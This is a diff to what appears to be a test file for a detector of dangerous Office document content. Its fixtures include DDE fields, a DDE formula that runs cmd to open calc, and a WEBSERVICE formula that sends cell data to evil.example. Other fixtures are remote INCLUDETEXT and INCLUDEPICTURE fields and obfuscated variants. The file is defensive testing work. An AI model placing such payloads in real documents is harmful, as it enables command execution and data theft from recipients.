@@ -40,6 +40,8 @@ FIELDS = {
     "a DDE field that does not end": document(mark("begin"), f"<w:r><w:instrText>{DDE}</w:instrText></w:r>"),
     "a DDE field in another field": document(field("IF 1 = 1 ", field(DDE))),
     "a field that another field names": document(field(field('QUOTE "DDE"'), " cmd.exe")),
+    "a keyword that a field completes": document(field("DAT", field('QUOTE "ABAS"'), "E x")),
+    "a keyword that a field ends": document(field("DATE", field('QUOTE "BASE"'), " x")),
     "a simple DDE field": document(f"<w:fldSimple w:instr='{DDE}' x:instr='PAGE'/>"),
     "a text from elsewhere": document(field('INCLUDETEXT "//evil.example/a.docx"')),
     "a picture from elsewhere": document(field('INCLUDEPICTURE "https://evil.example/a.png" \\d')),
@@ -119,6 +121,16 @@ PARTS = {
     ("xlsx", "a DDE formula"): (sheet("cmd|'/C calc'!A0"), FIELD),
     ("xlsx", "a DDE formula as a name"): (package("xlsx", "<w><definedName>'a'|b!c</definedName></w>"), FIELD),
     ("xlsx", "a formula that sends"): (sheet('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)'), FIELD),
+    ("xlsx", "a formula between references with quotes"): (
+        sheet("Table1['#x]+WEBSERVICE(\"http://e\")+Table1['#x]"),
+        FIELD,
+    ),
+    ("xlsx", "a formula between references with a quotation mark"): (
+        sheet('Table1[[a"b]]+WEBSERVICE(A1)&amp;Table1[[a"b]]'),
+        FIELD,
+    ),
+    ("xlsx", "a formula between brackets in texts"): (sheet('"["&amp;WEBSERVICE(A1)&amp;"]"'), FIELD),
+    ("xlsx", "a formula after an open bracket"): (sheet('Table1[a"+WEBSERVICE(A1)+"'), FIELD),
     ("xlsx", "a check box with a macro"): (control('formControlPr fmlaMacro="[0]!Run"'), MACROS),
     ("xlsx", "a button with a macro"): (control("controlPr macro=\"'C:\\a.xlsm'!Run\""), MACROS),
     ("xlsx", "a button with a macro in its drawing"): (
